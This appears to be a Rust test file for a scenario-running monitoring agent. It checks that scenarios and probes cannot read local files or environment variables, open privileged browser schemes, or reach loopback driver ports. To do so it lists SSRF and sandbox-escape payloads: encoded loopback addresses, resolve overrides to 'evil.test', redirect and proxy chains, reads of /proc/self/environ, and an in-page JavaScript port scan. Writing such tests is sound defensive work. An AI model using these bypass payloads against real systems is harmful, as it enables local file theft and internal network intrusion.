//! What scenarios may not do: read files and variables, run programs and reach the agent's own drivers beyond what the
//! agent's file allows. Nothing is allowed here, so that nothing of it may arrive at the server beside.

use std::path::Path;
use std::sync::{Arc, Mutex};

use axum::Router;
use axum::extract::{Request, State};
use axum::http::header;
use axum::response::{Html, IntoResponse, Redirect, Response};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use wachta::app::config::Allow;
use wachta::app::lookup::Environment;
use wachta::diagnostic::Severity;
use wachta::names::Reason;
use wachta::scenario::{Engine, Scenario, load};

use crate::support::Folder;
use crate::support::places::Place;

/// What stands in a file beside the folder of scenarios.
const OUTSIDE: &str = "OUTSIDE-Kq31-file";

type Received = Arc<Mutex<Vec<String>>>;

/// A site that leads to a file in every way that a page has, and keeps what it is sent.
async fn site(file: &str) -> (String, Received) {
    async fn answer(State((received, file)): State<(Received, String)>, request: Request) -> Response {
        let (parts, body) = request.into_parts();
        let body = axum::body::to_bytes(body, 1 << 20).await.unwrap_or_default();
        received.lock().unwrap().push(format!("{} {}", parts.uri, String::from_utf8_lossy(&body)));
        let path = parts.uri.path().trim_start_matches('/');
        match path {
            "redirect" => (axum::http::StatusCode::FOUND, [(header::LOCATION, file)]).into_response(),
            "refresh" => Html(format!("<meta http-equiv=refresh content='0;url={file}'>")).into_response(),
            "link" => {
                Html(format!("<a id=a href='{file}'>a</a><a id=b target=_blank href='{file}'>b</a>")).into_response()
            }
            "frame" => {
                Html(format!("<iframe id=f src='{file}'></iframe><object data='{file}'></object>")).into_response()
            }
            "away" => Redirect::temporary("gopher://127.0.0.1:1/").into_response(),
            _ => Html("<p id=p>a page</p>".to_owned()).into_response(),
        }
    }
    let received = Received::default();
    let pages = (Arc::clone(&received), file.to_owned());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, Router::new().fallback(answer).with_state(pages)).await });
    (format!("http://{address}"), received)
}

/// What must become of an attempt.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Right {
    /// Its file does not load, or the scenario is refused.
    Refused,
    /// The run ends as `unknown (configuration)`.
    Configuration,
    /// Whatever the browser makes of it, nothing arrives.
    Nothing,
}

fn scenario(number: usize, head: &str, steps: &[String]) -> String {
    let steps: Vec<String> = steps.iter().map(|step| format!("  - {step}\n")).collect();
    format!("scenario: attempt {number}\n{head}steps:\n{}", steps.concat())
}

/// Ports that the drivers of a place listen on, and their browsers.
fn driver_ports(place: &Place) -> Vec<String> {
    let folder = place.folder().canonicalize().unwrap();
    let mut ports = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(line) = std::fs::read_to_string(entry.path().join("cmdline")) else { continue };
        let Ok(environment) = std::fs::read(entry.path().join("environ")) else { continue };
        let environment = String::from_utf8_lossy(&environment).into_owned();
        let own = environment.split('\0').find_map(|pair| pair.strip_prefix("TMPDIR="));
        let is_ours =
            own.and_then(|own| Path::new(own).canonicalize().ok()).is_some_and(|own| own.starts_with(&folder));
        if is_ours && line.split('\0').next().is_some_and(|program| program.ends_with("driver")) {
            ports.extend(line.split('\0').filter_map(|word| word.split_once("port=")).map(|(_, port)| port.to_owned()));
        }
    }
    ports
}

#[tokio::test(flavor = "multi_thread")]
async fn thirty_attempts_to_leave_the_allowance() {
    let folder = Folder::new("allowance");
    folder.write("outside.txt", OUTSIDE);
    folder.write("scenarios/beside.txt", "beside");
    std::os::unix::fs::symlink("../outside.txt", folder.path().join("scenarios/link.txt")).unwrap();
    let outside = folder.path().join("outside.txt").display().to_string();
    let file = format!("file://{outside}");
    let (base, received) = site(&file).await;
    let send = format!("POST: {base}/collect\n    form: {{x: \"${{x}}\"}}");
    let text = "save: {x: {element: {css: html}, text: true}}".to_owned();
    let var = |value: &str| format!("vars: {{u: \"{value}\"}}\n");
    let open = |value: &str| (var(value), vec!["goto: \"${vars.u}\"".to_owned(), text.clone(), send.clone()]);
    let secret =
        |from: &str| (format!("secrets: {{s: {from}}}\n"), vec![format!("GET: \"{base}/collect?x=${{secret.s}}\"")]);
    let page = |path: &str, then: &[&str]| {
        let steps = std::iter::once(format!("goto: {base}/{path}")).chain(then.iter().map(|step| (*step).to_owned()));
        let saved = format!("{text}\n    timeout: 2s");
        (String::new(), steps.chain([saved, send.clone()]).collect::<Vec<_>>())
    };
    let script = |script: &str| page("ok", &[&format!("script: \"{script}\"\n    continue: true")]);
    let mut rows: Vec<((String, Vec<String>), Right)> = vec![
        // Variables and files.
        ((String::new(), vec![format!("GET: \"{base}/collect?x=${{env.PATH}}\"")]), Right::Refused),
        (secret("{env: PATH}"), Right::Refused),
        (secret("{file: /etc/hostname}"), Right::Refused),
        (secret(&format!("{{file: {outside}}}")), Right::Refused),
        (secret("{file: ../outside.txt}"), Right::Refused),
        (secret("{file: link.txt}"), Right::Refused),
        (secret("{file: /proc/self/environ}"), Right::Refused),
        (secret("{file: ../scenarios/../outside.txt}"), Right::Refused),
        // Requests by other schemes.
        ((String::new(), vec![format!("GET: {file}")]), Right::Refused),
        ((var(&file), vec!["GET: \"${vars.u}\"".to_owned()]), Right::Configuration),
        ((var("gopher://127.0.0.1:1/"), vec!["GET: \"${vars.u}\"".to_owned()]), Right::Configuration),
        (("base_url: file:///\n".to_owned(), vec!["GET: /etc/hostname".to_owned()]), Right::Refused),
        (
            (format!("base_url: \"${{vars.u}}\"\n{}", var("file:///")), vec!["GET: /etc/hostname".to_owned()]),
            Right::Configuration,
        ),
        (
            (String::new(), vec![format!("GET: {base}/redirect\n    continue: true"), format!("GET: {base}/away")]),
            Right::Nothing,
        ),
        // Pages by other schemes.
        ((String::new(), vec![format!("goto: {file}"), text.clone(), send.clone()]), Right::Refused),
        (
            (
                format!("base_url: \"${{vars.u}}\"\n{}", var("file:///")),
                vec![format!("goto: {outside}"), text.clone(), send.clone()],
            ),
            Right::Configuration,
        ),
    ];
    for url in [
        file.as_str(),
        "FILE:///etc/hostname",
        "file:/etc/hostname",
        "chrome://version",
        "view-source:http://127.0.0.1/",
        "javascript:document.title",
        "data:text/html,<p>x",
        "about:config",
        "devtools://devtools/bundled/inspector.html",
        "filesystem:http://127.0.0.1/temporary/x",
        "resource://gre/x",
    ] {
        rows.push((open(url), Right::Configuration));
    }
    rows.extend([
        (page("redirect", &[]), Right::Nothing),
        (page("refresh", &[]), Right::Nothing),
        (page("link", &["click: {css: \"#a\"}\n    continue: true"]), Right::Nothing),
        (
            page(
                "link",
                &[
                    "click: {css: \"#b\"}\n    continue: true",
                    "window: {new: true}\n    timeout: 1s\n    continue: true",
                ],
            ),
            Right::Nothing,
        ),
        (page("frame", &[]), Right::Nothing),
        (script(&format!("location.href = '{file}'")), Right::Nothing),
        (script(&format!("window.open('{file}')")), Right::Nothing),
        (script("location.href = 'chrome://version'"), Right::Nothing),
        (script("location.href = 'view-source:' + location.href"), Right::Nothing),
        (
            script(&format!(
                "return fetch('{file}').then(r => r.text()).then(t => {{ document.body.textContent = t }})"
            )),
            Right::Nothing,
        ),
    ]);
    assert!(rows.len() >= 30, "{}", rows.len());

    let environment = || Environment::allowed(Allow::default());
    let place = Place::new(Engine::Chromium, None, environment());
    let mut wrong = Vec::new();
    let mut runs: Vec<(usize, Right, Arc<Scenario>)> = Vec::new();
    for (number, ((head, steps), right)) in rows.iter().enumerate() {
        let path = folder.path().join(format!("scenarios/{number}.yaml")).display().to_string();
        let written = scenario(number, head, steps);
        let loaded = load(&path, &written, &environment());
        let refused = loaded.diagnostics.iter().any(|found| found.severity > Severity::Warning);
        if refused != (*right == Right::Refused) {
            let found: Vec<_> = loaded.diagnostics.iter().map(|found| &found.message).collect();
            wrong.push(format!("refused: {refused}\n{written}{found:?}"));
        } else if !refused {
            runs.push((number, *right, Arc::clone(&loaded.scenarios[0])));
        }
    }
    let scenarios: Vec<_> = runs.iter().map(|(_, _, scenario)| Arc::clone(scenario)).collect();
    for ((number, right, _), outcome) in runs.iter().zip(place.run(&scenarios).await) {
        if *right == Right::Configuration && outcome.reason != Some(Reason::Configuration) {
            let ((head, steps), _) = &rows[*number];
            wrong.push(format!("{:?} {:?}\n{}", outcome.reason, outcome.message, scenario(*number, head, steps)));
        }
    }
    // The drivers of those runs are still there, and a page looks for them.
    for engine in Engine::ALL {
        let other = (engine != Engine::Chromium).then(|| Place::new(engine, None, environment()));
        let place = other.as_ref().unwrap_or(&place);
        let path = folder.path().join("scenarios/reach.yaml").display().to_string();
        let first = load(&path, &format!("scenario: reach\nsteps:\n  - goto: {base}/ok\n"), &environment());
        assert_eq!(place.run(&first.scenarios).await[0].reason, None);
        let ports = driver_ports(place);
        assert!(!ports.is_empty(), "no driver of {engine} was found");
        let listed = ports.join(",");
        let reach = format!(
            "return (async () => {{ const seen = [], all = [];
             const one = (u, f) => {{ all.push(f(u).then(() => seen.push(u), () => {{}})) }};
             for (const p of [{listed}]) for (const h of ['127.0.0.1', 'localhost', '[::1]']) {{
               one('http://' + h + ':' + p + '/status', u => fetch(u, {{mode: 'no-cors', signal: AbortSignal.timeout(2000)}}));
               one('ws://' + h + ':' + p + '/session', u => new Promise((good, bad) => {{
                 const w = new WebSocket(u); w.onopen = good; w.onerror = bad; setTimeout(bad, 2000); }}));
             }} await Promise.all(all); return 'reached ' + seen.length + ' ' + seen.join(' ') }})()"
        );
        let reach = serde_json::Value::from(reach);
        let text = format!(
            "scenario: reach\nsteps:\n  - goto: {base}/ok\n  - script: {reach}\n    save: x\n    timeout: 60s\n  - {send}\n"
        );
        let loaded = load(&path, &text, &environment());
        assert!(loaded.diagnostics.is_empty(), "{:?}", loaded.diagnostics);
        let outcome = &place.run(&loaded.scenarios).await[0];
        assert_eq!(outcome.reason, None, "{engine}: {:?}", outcome.message);
        if let Some(other) = other {
            other.close().await;
        }
    }
    place.close().await;
    let received = received.lock().unwrap();
    let scans: Vec<_> = received.iter().filter(|line| line.contains("x=reached")).collect();
    assert_eq!(scans.iter().filter(|line| line.trim_end().ends_with("x=reached+0+")).count(), 2, "{scans:?}");
    for canary in [OUTSIDE, "root%3A", "Executable+Path", "command_line", "PATH="] {
        let arrived = received.iter().find(|line| line.contains(canary));
        assert_eq!(arrived, None, "{canary} arrived");
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n\n"));
    assert!(Path::new(&outside).exists());
}

/// A port on both loopback addresses that notes who connects: it stands for what is closed, a driver or the agent's web.
async fn canary() -> (u16, Arc<Mutex<Vec<String>>>) {
    let (four, six) = loop {
        let four = tokio::net::TcpListener::bind("0.0.0.0:0").await.unwrap();
        let port = four.local_addr().unwrap().port();
        // The same port must be free there as well.
        let six = tokio::net::TcpSocket::new_v6().and_then(|socket| {
            socket2::SockRef::from(&socket).set_only_v6(true)?;
            socket.bind(format!("[::]:{port}").parse().unwrap())?;
            socket.listen(16)
        });
        if let Ok(six) = six {
            break (four, six);
        }
    };
    let port = four.local_addr().unwrap().port();
    let arrived = Arc::new(Mutex::new(Vec::new()));
    for listener in [four, six] {
        let arrived = Arc::clone(&arrived);
        tokio::spawn(async move {
            while let Ok((_, from)) = listener.accept().await {
                arrived.lock().unwrap().push(from.to_string());
            }
        });
    }
    (port, arrived)
}

/// A proxy on this machine that leads anywhere (`CONNECT`, and whole URLs), and a site that redirects anywhere.
async fn helper() -> std::net::SocketAddr {
    async fn lead(mut client: tokio::net::TcpStream, own: String) -> std::io::Result<()> {
        let mut head = Vec::new();
        let ends = |head: &[u8]| head.windows(4).any(|window| window == b"\r\n\r\n");
        while !ends(&head) && client.read_buf(&mut head).await? > 0 {}
        let text = String::from_utf8_lossy(&head).into_owned();
        let target = text.split(' ').nth(1).unwrap_or_default();
        let target = target.strip_prefix(&own).unwrap_or(target);
        if let Some(to) = target.strip_prefix("/to?").filter(|_| !text.starts_with("CONNECT")) {
            let status = if text.starts_with("POST") { 307 } else { 302 };
            let answer =
                format!("HTTP/1.1 {status} x\r\nlocation: {to}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
            return client.write_all(answer.as_bytes()).await;
        }
        let place = target.trim_start_matches("http://").split('/').next().unwrap_or_default().to_owned();
        let mut server = tokio::net::TcpStream::connect(place).await?;
        if text.starts_with("CONNECT") {
            client.write_all(b"HTTP/1.1 200 OK\r\n\r\n").await?;
        } else {
            server.write_all(&head).await?;
        }
        tokio::io::copy_bidirectional(&mut client, &mut server).await.map(drop)
    }
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((client, _)) = listener.accept().await {
            tokio::spawn(lead(client, format!("http://{address}")));
        }
    });
    address
}

#[tokio::test(flavor = "multi_thread")]
async fn no_kind_of_check_reaches_a_closed_port() {
    let (port, arrived) = canary().await;
    let helper = helper().await;
    let hostname = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap().trim().to_owned();
    // Everything that leads to this machine, as a host of URLs.
    let hosts = [
        "127.0.0.1",
        "127.1",
        "127.8.8.8",
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "0.0.0.0",
        "localhost",
        "LOCALHOST.",
        "[::1]",
        "[::]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[0:0:0:0:0:ffff:127.0.0.1]",
        hostname.as_str(),
    ];
    let http = |more: &str| format!("{{http: \"{more}\"}}");
    let mut checks: Vec<String> = hosts.iter().map(|host| http(&format!("http://{host}:{port}/"))).collect();
    let target = format!("http://127.0.0.1:{port}/");
    let secure = format!("https://127.0.0.1:{port}/");
    checks.extend([
        http(&secure),
        // By a name that is said to be here, by redirects and by proxies.
        format!("{{http: \"http://evil.test:{port}/\", resolve: 127.0.0.1}}"),
        format!("{{http: \"http://evil.test/\", resolve: \"127.0.0.1:{port}\"}}"),
        format!("{{http: \"http://evil.test/\", resolve: \"[::1]:{port}\"}}"),
        format!("{{http: \"http://evil.test/\", resolve: \"[::ffff:127.0.0.1]:{port}\"}}"),
        http(&format!("http://{helper}/to?{target}")),
        http(&format!("http://{helper}/to?http://[::ffff:127.0.0.1]:{port}/")),
        http(&format!("http://{helper}/to?http://{helper}/to?{target}")),
        format!("{{http: \"http://{helper}/to?{target}\", method: POST, form: {{a: b}}}}"),
        format!("{{http: \"http://example.com/\", proxy: \"{target}\"}}"),
        format!("{{http: \"https://example.com/\", proxy: \"{target}\"}}"),
        format!("{{http: \"{target}\", proxy: \"http://{helper}\"}}"),
        format!("{{http: \"{secure}\", proxy: \"http://{helper}\"}}"),
        format!("{{http: \"http://localhost:{port}/\", proxy: \"http://{helper}\"}}"),
        format!("{{http: \"http://{helper}/to?{target}\", proxy: \"http://{helper}\"}}"),
        format!(
            "{{http: \"http://{helper}/\", oauth2: {{token_url: \"{target}\", client_id: a, client_secret: abcdefgh}}}}"
        ),
        // Every other kind that connects.
        format!("{{tcp: \"127.0.0.1:{port}\"}}"),
        format!("{{tcp: \"[::ffff:127.0.0.1]:{port}\", send: x}}"),
        format!("{{tcp: \"localhost:{port}\", starttls: smtp}}"),
        format!("{{tls: \"127.0.0.1:{port}\"}}"),
        format!("{{tls: \"{hostname}:{port}\"}}"),
        format!("{{dns: example.com, server: \"tls://127.0.0.1:{port}\"}}"),
        format!("{{dns: example.com, server: \"https://127.0.0.1:{port}/dns-query\"}}"),
        format!("{{postgres: \"postgres://a:abcdefgh@127.0.0.1:{port}/a\"}}"),
        format!("{{postgres: \"postgres://a:abcdefgh@localhost:{port}/a\"}}"),
        format!("{{redis: \"redis://127.0.0.1:{port}\"}}"),
        format!("{{redis: \"rediss://localhost:{port}\"}}"),
        format!("{{grpc: \"127.0.0.1:{port}\"}}"),
        format!("{{grpc: \"127.0.0.1:{port}\", trust: {{insecure: true}}}}"),
        format!("{{websocket: \"ws://127.0.0.1:{port}/\"}}"),
        format!("{{websocket: \"wss://[::ffff:127.0.0.1]:{port}/\"}}"),
        format!("{{s3: \"http://127.0.0.1:{port}/bucket\", key: a}}"),
        format!("{{s3: \"https://localhost:{port}/bucket\", key: a}}"),
    ]);
    let text: String = checks.iter().enumerate().map(|(at, check)| format!("  c{at}: {check}\n")).collect();
    let lookup = Environment::allowed(Allow::default());
    let loaded = load("a.yaml", &format!("defaults: {{timeout: 5s}}\nchecks:\n{text}"), &lookup);
    let errors: Vec<_> = loaded.diagnostics.iter().filter(|found| found.severity > Severity::Warning).collect();
    assert!(errors.is_empty(), "{:?}", errors.iter().map(|found| found.render(false)).collect::<Vec<_>>());
    assert_eq!(loaded.scenarios.len(), checks.len());
    let place = Place::new(Engine::Chromium, None, lookup);
    let closed = place.dialer().reach().closed().close(port, "a driver");
    let mut wrong = Vec::new();
    for (check, outcome) in checks.iter().zip(place.run(&loaded.scenarios).await) {
        let message = outcome.message.unwrap_or_default();
        if outcome.reason != Some(Reason::Configuration) || !message.contains("it belongs to a driver") {
            wrong.push(format!("{check}: {:?} {message}", outcome.reason));
        }
    }
    assert!(wrong.is_empty(), "{} of {} wrong:\n{}", wrong.len(), checks.len(), wrong.join("\n"));
    assert_eq!(*arrived.lock().unwrap(), Vec::<String>::new(), "somebody connected");
    // Once it is open, each way leads there: nothing was refused for another reason.
    drop(closed);
    let mut elsewhere = Vec::new();
    for (check, scenario) in checks.iter().zip(&loaded.scenarios) {
        let before = arrived.lock().unwrap().len();
        let cut = wachta::run::RunRequest { cancel: tokio_util::sync::CancellationToken::new(), ..Default::default() };
        let cancel = cut.cancel.clone();
        let (running, came) = (place.run_with(scenario, cut), async {
            let came = async || (arrived.lock().unwrap().len() > before).then_some(());
            crate::support::until(check, std::time::Duration::from_secs(20), came).await;
            cancel.cancel();
        });
        let (outcome, ()) = tokio::join!(running, came);
        if outcome.reason == Some(Reason::Configuration) {
            elsewhere.push(format!("{check}: {:?}", outcome.message));
        }
    }
    assert!(elsewhere.is_empty(), "{elsewhere:?}");
    place.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn probes_reach_neither_the_agents_own_web_nor_sockets() {
    let helper = helper().await;
    let folder = Folder::new("probe-allowance");
    folder.write("scenarios/a.yaml", "checks: {job: {heartbeat: job, every: 1h}}\n");
    let shop = wachta::demo::Demo::open(0, 0, &tokio_util::sync::CancellationToken::new()).await.unwrap();
    let modules = format!(
        "modules:\n  http: {{prober: http}}\n  http4: {{prober: http, http: {{preferred_ip_protocol: ip4}}}}\n  \
         behind: {{prober: http, http: {{proxy_url: \"http://{helper}\"}}}}\n  \
         unresolved: {{prober: http, http: {{proxy_url: \"http://{helper}\", skip_resolve_phase_with_proxy: true}}}}\n  \
         tcp: {{prober: tcp}}\n  tls: {{prober: tcp, tcp: {{tls: true}}}}\n  grpc: {{prober: grpc}}\n  \
         websocket: {{prober: websocket}}\n  unix: {{prober: unix}}\n  \
         dns: {{prober: dns, dns: {{transport_protocol: tcp, query_name: example.com}}}}\n"
    );
    folder.write("blackbox.yml", &modules);
    folder.write(
        "wachta.yaml",
        "location: here\nscenarios: [scenarios/]\nstore: sqlite:wachta.db\nweb: {listen: \"127.0.0.1:0\"}\nprobe: {modules: blackbox.yml}\n",
    );
    let agent = crate::support::agent::Agent::serve(folder.path(), &shop).await;
    let own = agent.url("").trim_start_matches("http://").to_owned();
    let port = own.rsplit(':').next().unwrap();
    let socket = folder.path().join("socket");
    let _listening = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    let unix = format!("unix://{}", socket.display());
    let redirect = format!("http://{helper}/to?http://{own}/-/healthy");
    let health = format!("http://{own}/-/healthy");
    let rows = [
        ("http", health.clone()),
        ("http4", format!("http://localhost:{port}/-/healthy")),
        ("http", format!("http://[::ffff:127.0.0.1]:{port}/-/healthy")),
        ("http", format!("http://0.0.0.0:{port}/-/healthy")),
        ("http", format!("http://127.1:{port}/-/healthy")),
        ("http", own.clone()),
        ("http", redirect.clone()),
        ("behind", health.clone()),
        ("unresolved", health),
        ("behind", redirect),
        ("tcp", own.clone()),
        ("tcp", format!("localhost:{port}")),
        ("tcp", format!("[::ffff:127.0.0.1]:{port}")),
        ("tls", own.clone()),
        ("grpc", own.clone()),
        ("websocket", format!("ws://{own}/")),
        ("dns", own.clone()),
        ("unix", unix),
    ];
    let encoded = |text: &str| url::form_urlencoded::byte_serialize(text.as_bytes()).collect::<String>();
    let mut wrong = Vec::new();
    for (module, target) in rows {
        let answer = agent.get(&format!("/probe?module={module}&debug=true&target={}", encoded(&target))).await;
        let why = if module == "unix" {
            "not allowed by `probe.targets`"
        } else {
            "`allow.network` in the agent configuration"
        };
        let is_refused = answer.contains("probe_success 0") && answer.contains(why);
        if !is_refused || answer.contains("probe_http_status_code 200") {
            wrong.push(format!("{module} {target}: {answer}"));
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n\n"));
    agent.stop().await;
}
